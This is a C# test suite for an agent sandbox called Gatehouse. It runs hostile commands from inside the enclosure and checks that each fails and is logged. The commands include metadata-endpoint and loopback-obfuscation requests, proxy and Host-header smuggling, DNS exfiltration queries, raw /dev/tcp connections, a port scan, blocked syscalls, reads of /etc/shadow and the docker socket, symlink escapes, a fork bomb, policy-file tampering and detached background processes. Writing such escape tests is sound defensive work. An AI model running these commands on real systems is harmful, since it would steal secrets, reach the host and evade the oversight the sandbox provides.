using Gatehouse.TestKit;

namespace Gatehouse.Attacks.Tests;

/// <summary>What a hostile agent tries from inside. Each attack must fail, and where it meets a gate it must leave its event.</summary>
public abstract class AttackTests(AttackFixture fixture)
{
    private EnclosureSite Site => fixture.Site;

    private Task<CommandResult> Inside(string script) => Site.Installation.ScriptAsync(Site.Workspace, script);

    /// <summary>A name that only curl and the record see: nothing of it may be answered.</summary>
    [Theory]
    [InlineData("curl -sS --max-time 5 https://blocked.test/", "blocked.test:443")]
    [InlineData("curl -sS --noproxy '*' --max-time 5 https://blocked.test/", "blocked.test A")]
    [InlineData("curl -skS --noproxy '*' --max-time 5 --connect-to allowed.test:443:1.2.3.4:443 https://allowed.test/", "1.2.3.4:443")]
    [InlineData("curl -skS --noproxy '*' --max-time 5 --resolve blocked.test:443:198.18.0.2 https://blocked.test/", ":443")]
    [InlineData("dig +short allowed.test; curl -skS --noproxy '*' --max-time 5 --resolve blocked.test:443:198.18.0.2 https://blocked.test/", "names-disagree")]
    [InlineData("curl -skS --max-time 5 --connect-to blocked.test:443:allowed.test:443 https://blocked.test/", "names-disagree")]
    [InlineData("curl -sS --max-time 5 -H 'Host: blocked.test' http://allowed.test/", "invalid-request")]
    [InlineData("curl -sS --noproxy '*' --max-time 5 -H 'Host: blocked.test' http://allowed.test/", "names-disagree")]
    [InlineData("curl -sS --noproxy '*' --max-time 5 http://169.254.169.254/latest/meta-data/", "169.254.169.254")]
    [InlineData("curl -sS --max-time 5 http://2130706433/", "127.0.0.1")]
    [InlineData("curl -sS --max-time 5 http://0x7f.1/", "127.0.0.1")]
    [InlineData("curl -sS --max-time 5 http://0177.0.0.1/", "127.0.0.1")]
    [InlineData("curl -sS --max-time 5 'http://[::ffff:127.0.0.1]/'", "127.0.0.1")]
    [InlineData("curl -skS --max-time 5 'https://[::1]/'", "[::1]:443")]
    [InlineData("curl -skS --noproxy '*' --max-time 5 'https://[2001:db8::8]/'", "[2001:db8::8]:443")]
    [InlineData("curl -sS --max-time 5 http://evil-wild.test/", "evil-wild.test")]
    [InlineData("curl -sS --max-time 5 http://wild.test/", "wild.test")]
    [InlineData("curl -sS --noproxy nothing --max-time 5 $API_URL/v1/whoami", "secrets.gatehouse")]
    [InlineData("curl -sS --path-as-is --max-time 5 $API_URL/v1/whoami/../../admin", "GET")]
    [InlineData("curl -sS --path-as-is --max-time 5 $API_URL/v1/%2e%2e/admin", "GET")]
    [InlineData("curl -sS -X DELETE --max-time 5 $API_URL/v1/whoami", "DELETE api/v1/whoami")]
    [InlineData("curl -sS -H 'Host: blocked.test' --max-time 5 $API_URL/v1/whoami", "GET")]
    [InlineData("dig +short +time=2 +tries=1 @8.8.8.8 blocked.test | grep -v ^';'", "blocked.test A")]
    [InlineData("dig +tcp +short +time=2 +tries=1 @9.9.9.9 blocked.test | grep -v ^';'", "blocked.test A")]
    [InlineData("dig +short +time=2 +tries=1 TXT c2VjcmV0.exfil.test | grep -v ^';'", "c2vjcmv0.exfil.test TXT")]
    [InlineData("dig +short +time=2 +tries=1 -x 10.0.0.1 | grep -v ^';'", "1.0.0.10.in-addr.arpa")]
    [InlineData("timeout 3 bash -c 'exec 3<>/dev/tcp/10.0.0.1/22'", "tcp 10.0.0.1:22")]
    [InlineData("timeout 3 bash -c 'exec 3<>/dev/udp/192.0.2.1/443 && echo x >&3 && sleep 0.1 && echo x >&3'", "udp 192.0.2.1:443")]
    [InlineData("printf 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: blocked.test\\r\\n\\r\\n' | timeout 3 bash -c 'exec 3<>/dev/tcp/198.18.0.1/3128; cat >&3; head -1 <&3 | grep 200'", "denied")]
    [InlineData("printf 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: blocked.test:443\\r\\n\\r\\n' | timeout 3 bash -c 'exec 3<>/dev/tcp/198.18.0.1/3128; cat >&3; head -1 <&3 | grep 200'", "denied")]
    [InlineData("printf 'CONNECT allowed.test:443 HTTP/1.1\\nHost: allowed.test:443\\n\\n' | timeout 3 bash -c 'exec 3<>/dev/tcp/198.18.0.1/3128; cat >&3; head -1 <&3 | grep 200'", "denied")]
    public async Task Road_ThatIsClosed_FailsAndLeavesItsEvent(string script, string recorded)
    {
        var asked = Site.Web.Requests.Count + Site.Api.Requests.Count;
        var result = await Inside(script + " > /tmp/out 2>/tmp/err; code=$?; cat /tmp/out; [ $code = 0 ] && ! grep -q urn:gatehouse /tmp/out && ! grep -q '\"status\":4' /tmp/out && [ -s /tmp/out ] && echo REACHED");
        Assert.DoesNotContain("REACHED", result.Output, StringComparison.Ordinal);
        Assert.Equal(asked, Site.Web.Requests.Count + Site.Api.Requests.Count);
        await Site.ExpectRecordAsync(recorded, "--verdict", "denied");
    }

    /// <summary>An allowed call to an upstream that answers with what it was sent.</summary>
    [Fact]
    public async Task Credential_ThatTheUpstreamEchoes_DoesNotReachTheAgent()
    {
        var result = await Inside("""
            curl -sS --max-time 5 "$API_URL/v1/whoami?whole"
            curl -sS --max-time 5 --compressed "$API_URL/v1/whoami?compressed"
            for i in 0 8 16 24 32 40 48 56 64 72 80 88 96; do curl -sS --max-time 5 -r $i-$((i+7)) "$API_URL/v1/whoami?range=$i"; done
            """);
        Assert.Equal(15, result.Output.Split($"x-api-key: {new string('*', EnclosureSite.Key.Length)}\n").Length - 1);
        Assert.DoesNotContain(EnclosureSite.Key, result.Output, StringComparison.Ordinal);
        await Site.ExpectRecordAsync("\"reflected\":\"(body)\"", "--gate", "secrets");
    }

    [Fact]
    public async Task PortScan_EveryPort_IsRefusedAndRecorded()
    {
        await Inside("for p in 1 21 25 110 143 445 1433 3306 3389 5432 6379 8080 9200 11211 27017; do (exec 3<>/dev/tcp/10.9.8.7/$p) 2>/dev/null && echo OPEN $p; done");
        foreach (var port in new[] { 1, 21, 445, 5432, 6379, 27017 })
            await Site.ExpectRecordAsync($"tcp 10.9.8.7:{port}\"", "--gate", "egress");
    }

    [Fact]
    public async Task Ping_Anywhere_GetsNoAnswerAndIsRecorded()
    {
        var result = await Inside("""
            python3 - <<'P'
            import socket
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
            s.settimeout(0.5)
            s.sendto(b'\x08\x00\x00\x00\x00\x00\x00\x00', ('8.8.8.8', 0))
            try: print('ANSWER', s.recv(99))
            except OSError as e: print(e)
            P
            """);
        Assert.DoesNotContain("ANSWER", result.Output, StringComparison.Ordinal);
        await Site.ExpectRecordAsync("icmp 8.8.8.8", "--gate", "egress");
    }

    [Fact]
    public async Task Sink_ByAnyRoad_IsNotReached()
    {
        await Inside("true");
        using var address = System.Text.Json.JsonDocument.Parse(File.ReadAllText(Path.Combine(Site.Installation.RunDirectory, "log-sink.json")));
        var port = new Uri(address.RootElement.GetProperty("url").GetString()!).Port;
        var before = await Site.RecordAsync();
        var result = await Inside($$"""
            for t in 127.0.0.1 localhost 0.0.0.0 '[::1]' host.docker.internal 172.17.0.1; do
              curl -sS --max-time 3 --noproxy '*' http://$t:{{port}}/health && echo REACHED
              curl -sS --max-time 3 -x http://198.18.0.1:3128 -p http://$t:{{port}}/health && echo REACHED
            done; ls {{Site.Installation.RunDirectory}} {{Site.Installation.StateDirectory}}
            """);
        Assert.DoesNotContain("REACHED", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("Healthy", result.Output, StringComparison.Ordinal);
        Assert.NotEmpty(before);
    }

    [Fact]
    public async Task UnixSocketAndFifo_AmongTheFiles_LeadNowhere()
    {
        var folder = Site.CreateWorkspace("ipc");
        foreach (var place in new[] { "docs/s", "s" })
        {
            using var each = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.Unix, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Unspecified);
            each.Bind(new System.Net.Sockets.UnixDomainSocketEndPoint(Path.Combine(folder, place)));
            File.SetUnixFileMode(Path.Combine(folder, place), (UnixFileMode)0x1ff);
            each.Listen();
            var result = await Site.Installation.ScriptAsync(folder, """
                python3 - <<'P'
                import socket
                for p in ('/docs/s', '/workspace/s', '/workspace/docs/s'):
                    try:
                        socket.socket(socket.AF_UNIX).connect(p); print('CONNECTED', p)
                    except OSError as e: print(e)
                P
                """);
            Assert.DoesNotContain("CONNECTED", result.Output, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("ptrace", 101, "0, 0, 0, 0", 1)]
    [InlineData("keyctl", 250, "0, -3, 0, 0", 1)]
    [InlineData("bpf", 321, "0, 0, 0, 0", 1)]
    [InlineData("userfaultfd", 323, "0, 0, 0, 0", 1)]
    [InlineData("io_uring_setup", 425, "1, 0, 0, 0", 1)]
    [InlineData("perf_event_open", 298, "0, 0, 0, 0", 1)]
    [InlineData("open_by_handle_at", 304, "0, 0, 0, 0", 1)]
    [InlineData("process_vm_readv", 310, "1, 0, 0, 0", 1)]
    [InlineData("unshare NEWUSER", 272, "0x10000000, 0, 0, 0", 1)]
    [InlineData("unshare NEWNET", 272, "0x40000000, 0, 0, 0", 1)]
    [InlineData("setns", 308, "0, 0, 0, 0", 1)]
    [InlineData("mount", 165, "0, 0, 0, 0", 1)]
    [InlineData("pivot_root", 155, "0, 0, 0, 0", 1)]
    [InlineData("clone3", 435, "0, 0, 0, 0", 38)]
    [InlineData("socket AF_PACKET", 41, "17, 3, 0, 0", 97)]
    [InlineData("socket AF_VSOCK", 41, "40, 1, 0, 0", 97)]
    [InlineData("socket AF_ALG", 41, "38, 5, 0, 0", 97)]
    [InlineData("socket NETLINK_NETFILTER", 41, "16, 3, 12, 0", 97)]
    [InlineData("ioctl TIOCSTI", 16, "0, 0x5412, 0, 0", 1)]
    [InlineData("ioctl TIOCLINUX", 16, "0, 0x541c, 0, 0", 1)]
    public async Task SystemCall_ThatHasNoPlaceInside_IsRefused(string name, int number, string arguments, int errno)
    {
        var result = await Inside($"python3 -c 'import ctypes; l = ctypes.CDLL(None, use_errno=True); print(l.syscall({number}, {arguments}), ctypes.get_errno())'");
        Assert.True(result.Output.Trim() == $"-1 {errno}", $"{name}: {result}");
    }

    [Theory]
    [InlineData("echo 1 > /proc/sys/kernel/core_pattern")]
    [InlineData("echo 1 > /proc/sys/net/ipv4/icmp_echo_ignore_all")]
    [InlineData("echo b > /proc/sysrq-trigger")]
    [InlineData("cat /proc/1/root/etc/shadow")]
    [InlineData("ls /proc/1/cwd/../root")]
    [InlineData("cat /proc/kcore")]
    [InlineData("mount -t tmpfs none /tmp")]
    [InlineData("mknod /tmp/disk b 8 0")]
    [InlineData("ls /sys/fs/cgroup")]
    [InlineData("su -c true root")]
    [InlineData("chroot /tmp /bin/true")]
    [InlineData("ls /var/run/docker.sock")]
    [InlineData("cat /dev/mem")]
    [InlineData("ls /home/*/.ssh")]
    [InlineData("ip addr add 10.0.0.1/8 dev lo")]
    [InlineData("ip link add dummy0 type dummy")]
    [InlineData("nsenter -t 1 -n true")]
    public async Task Command_ThatWouldReachTheMachine_Fails(string command)
    {
        var result = await Inside($"{command} >/dev/null 2>&1 </dev/null && echo DONE");
        Assert.DoesNotContain("DONE", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ForkBomb_IsHeldByTheLimit()
    {
        var result = await Inside("for i in $(seq 2000); do sleep 30 & done 2>/dev/null; ls -d /proc/[0-9]* | wc -l; kill $(jobs -p) 2>/dev/null; true");
        Assert.InRange(int.TryParse(result.Output.Trim().Split('\n')[^1], out var count) ? count : 0, 0, 420);
    }

    [Theory]
    [InlineData("/tmp", 64)]
    [InlineData("/dev/shm", 256)]
    [InlineData("/home/agent", 1024)]
    public async Task Scratch_Filling_StopsAtItsSize(string folder, int mebibytes)
    {
        var result = await Inside($"dd if=/dev/zero of={folder}/fill bs=1M count={mebibytes + 50} 2>/dev/null; stat -c %s {folder}/fill; touch /x 2>/dev/null && echo ROOT");
        Assert.InRange(long.Parse(result.Output.Trim(), System.Globalization.CultureInfo.InvariantCulture), 1, mebibytes * 1024L * 1024);
    }

    [Fact]
    public async Task Policy_RewrittenInside_ChangesNothing()
    {
        var result = await Inside("sed -i 's/allowed.test/blocked.test/' gatehouse.yaml; sleep 1.2; curl -sS --max-time 5 https://blocked.test/ | head -1; curl -sS --max-time 5 https://allowed.test/still | head -1");
        Assert.DoesNotContain("GET / ", result.Output, StringComparison.Ordinal);
        Assert.Contains("GET /still", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Background_LeftBehindByTheAgent_IsDead()
    {
        await Inside("setsid nohup sleep 31337 >/dev/null 2>&1 & sleep 0.2; setsid sleep 31337 & sleep 0.1");
        Assert.DoesNotContain(Processes(), line => line.Contains("sleep 31337", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Link_PlantedInTheWorkspace_ReadsNothingOfTheHost()
    {
        var result = await Inside("ln -s /etc/shadow a; ln -s /proc/1/root/root b; ln -s ../../../../../../root c; cat a b/* c/* 2>/dev/null");
        Assert.Equal("", result.Output.Trim());
    }

    internal static IEnumerable<string> Processes()
    {
        foreach (var folder in Directory.EnumerateDirectories("/proc").Where(folder => char.IsAsciiDigit(Path.GetFileName(folder)[0])))
        {
            string line;
            try
            {
                line = File.ReadAllText(Path.Combine(folder, "cmdline")).Replace('\0', ' ');
            }
            catch (IOException)
            {
                continue;
            }

            yield return line;
        }
    }
}

public abstract class AttackFixture(bool unprivileged) : IAsyncLifetime
{
    public EnclosureSite Site { get; private set; } = null!;

    public async Task InitializeAsync() => Site = await EnclosureSite.CreateAsync(unprivileged);

    public async Task DisposeAsync() => await Site.DisposeAsync();
}

public sealed class RootAttackFixture() : AttackFixture(unprivileged: false);

public sealed class UnprivilegedAttackFixture() : AttackFixture(unprivileged: true);

public sealed class AttacksOnRootTests(RootAttackFixture fixture) : AttackTests(fixture), IClassFixture<RootAttackFixture>;

public sealed class AttacksOnUnprivilegedTests(UnprivilegedAttackFixture fixture) : AttackTests(fixture), IClassFixture<UnprivilegedAttackFixture>;
